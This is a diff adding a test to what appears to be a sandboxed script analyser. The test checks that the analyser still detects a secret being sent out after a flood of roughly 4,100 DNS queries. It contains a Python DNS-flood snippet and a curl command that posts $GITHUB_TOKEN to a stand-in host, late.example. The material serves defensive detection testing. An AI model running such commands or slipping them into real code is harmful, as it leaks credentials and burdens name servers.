@@ -102,6 +102,29 @@ it("lets nothing leave: a listener outside hears a control, and no step", { time
   expect(heard[0]).toContain("/control");
 });
 
+it("answers names to a step after one that asked for more than are answered", { timeout: 90_000 }, async ({ skip }) => {
+  const analyst = analystOr(skip);
+  if (analyst.host.recorder === null) skip("This worker has no recorder.");
+  const flood = [
+    "import socket",
+    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
+    "for i in range(4100):",
+    "  label = b'h%04d' % i",
+    "  s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5' + label + b'\\7example\\0\\0\\1\\0\\1', ('10.0.2.3', 53))",
+    "  if i < 3990: s.recv(512)",
+    "",
+  ].join("\n");
+  const files = { "a.py": flood, "b.sh": sh('curl -s -m 5 -d "$GITHUB_TOKEN" http://late.example/') };
+  const outcome = await analyst.analyse(
+    files,
+    Object.keys(files).map((path) => ({ kind: "script", path, argv: [], stdin: "" })),
+  );
+  const [first, second] = outcome.kind === "report" ? outcome.report.steps : [];
+  expect(first?.end, first?.stderr).toEqual({ kind: "exited", exitCode: 0 });
+  expect(first?.beyond.network).toBeGreaterThan(0);
+  expect(second?.deeds).toEqual([{ kind: "sent_canary", what: "$GITHUB_TOKEN to late.example:80" }]);
+});
+
 it("says why it is not available, and has no report then", async () => {
   const dir = makeWorkDir();
   const isolation = await probeIsolation(dir);
